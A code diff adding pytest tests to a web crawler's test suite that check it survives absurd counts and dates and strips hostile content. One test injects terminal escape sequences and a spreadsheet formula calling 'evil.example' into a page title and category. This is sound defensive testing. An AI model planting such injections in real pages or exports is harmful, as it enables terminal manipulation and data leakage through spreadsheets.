@@ -15,6 +15,7 @@ import time
 
 import pytest
 
+from xzcrawler.core.pages import parse_page
 from xzcrawler.mirror.site import RECONSTRUCTION, MirrorSite
 
 from .conftest import CRAWL_ENV, NOW, cli, crawl_args, run_crawl
@@ -590,3 +591,89 @@ def test_a_site_never_reachable_exits_with_unreachable_not_no_items(tmp_path):
     assert time.monotonic() - started < 60
     assert result.returncode == 9, result.stderr[-3000:]
     assert f"unreachable: connection refused to 127.0.0.1:{port}" in result.stderr.strip().splitlines()[-1]
+
+
+# -- issue 29: one bad value costs only itself ------------------------------------------------
+HOSTILE_VALUES = [
+    ("99999999999999999999", "99999999年前"),
+    ("9999999999999亿", "9999年前"),
+    ("-5", "3000年前"),
+    ("1e309", "-3天前"),
+    (str(2**63), "1年前 (0001-01-01)"),
+    ("12", "1年前 (9999-12-31)"),
+]
+
+
+def test_absurd_counts_and_dates_on_a_listing_cost_only_themselves(tmp_path):
+    """A listing whose items show absurd counts (past SQLite's integers, negative, exponents) and
+    absurd time-ago texts (99999999年前, years 0001 and 9999) once failed the whole page on every
+    run (OverflowError: 0 of its posts archived, exit 3 or 4). Each value is now no value: every
+    post is stored, nothing absurd is stored as a fact, and the run is ok."""
+    category = 1
+    with Host() as host:
+        own = host.site.by_category[category]
+        items = [
+            (f"{host.base}/index.php/post/{aid}.html", "t", *HOSTILE_VALUES[k % len(HOSTILE_VALUES)])
+            for k, aid in enumerate(own)
+        ]
+        host.on(f"/index.php/category-{category}.html", lambda h, m: (200, {}, listing_html(host.base, items)))
+        result = crawl(host, tmp_path)
+        # every item of every listing page the crawl read, the hostile page's included
+        shown = 0
+        for path in set(host.asked(r"/|/index\.php/category-\d+(?:_\d+)?\.html")):
+            _, _, body = host.answer(type("Asked", (), {"path": path})())
+            shown += len(parse_page(body, host.base + path, NOW)["articles"])
+    assert result.returncode == 0, result.stderr[-3000:]
+    db = sqlite3.connect(tmp_path / "archive.db")
+    stats = json.loads(db.execute("SELECT stats FROM crawl_runs").fetchone()[0])
+    assert stats["xz/listing_items"] == shown and "xz/failures/parse" not in stats
+    stored = {aid for (aid,) in db.execute("SELECT article_id FROM articles")}
+    assert set(own) <= stored and stored == set(host.site.ids)
+    assert db.execute("SELECT COUNT(*) FROM failures WHERE resolved_at IS NULL").fetchone()[0] == 0
+    bad_views = db.execute(
+        "SELECT COUNT(*) FROM view_snapshots WHERE views < 0 OR views > 1000000000 OR views IN (1, 5, 309)"
+    ).fetchone()[0]
+    assert bad_views == 0
+    for aid, date, earliest, latest in db.execute(
+        "SELECT article_id, published_date, published_earliest, published_latest FROM articles"
+    ):
+        for day in (date, earliest, latest):
+            assert day is None or "1990-01-01" <= day <= "2026-12-31", (aid, day)
+
+
+def test_terminal_escapes_and_formulas_from_a_page_reach_no_terminal_or_spreadsheet(tmp_path):
+    """A title carrying ESC/BEL sequences (raw and as &#27;) and U+202E, and a category that is a
+    spreadsheet formula: the archive keeps the text minus the control characters, `xzcrawler
+    search` prints none, and the CSV export shows the formula as text (issue 29, item 5)."""
+    from xzcrawler.mirror.server import route
+
+    victim = SITE_IDS[5]
+    with Host() as host:
+        title = host.site.title_of(victim)
+        formula = '=IMPORTXML("http://evil.example","//a")'
+
+        def hostile(handler, match):
+            _, _, body, _ = route(host.site, handler.path, host.base)
+            page = body.decode("utf-8")
+            page = page.replace(f"<h1>{title}</h1>", f"<h1>\x1b]0;owned\x07{title}&#27;[2J\u202e反</h1>", 1)
+            page = page.replace('<span class="cate"><a href="', '<span class="cate"><a data-x="', 1)
+            page = re.sub(r'(<span class="cate"><a [^>]*>)[^<]*(</a>)', rf"\g<1>{formula}\g<2>", page, count=1)
+            return 200, {}, page.encode("utf-8")
+
+        host.on(f"/index.php/post/{victim}.html", hostile)
+        result = crawl(host, tmp_path)
+    assert result.returncode == 0, result.stderr[-3000:]
+    db = sqlite3.connect(tmp_path / "archive.db")
+    stored_title, category = db.execute(
+        "SELECT title, category FROM articles WHERE article_id = ?", [victim]
+    ).fetchone()
+    assert stored_title == f"]0;owned{title}[2J反"
+    assert category == formula
+    word = title[:2]
+    printed = cli("search", word, "--db", str(tmp_path / "archive.db"), "--limit", "50")
+    assert printed.returncode == 0, printed.stderr
+    assert title in printed.stdout
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", printed.stdout)
+    table = tmp_path / "a.csv"
+    assert cli("export", "--db", str(tmp_path / "archive.db"), "--out", str(table)).returncode == 0
+    assert f"'{formula}".replace('"', '""') in table.read_text("utf-8-sig")
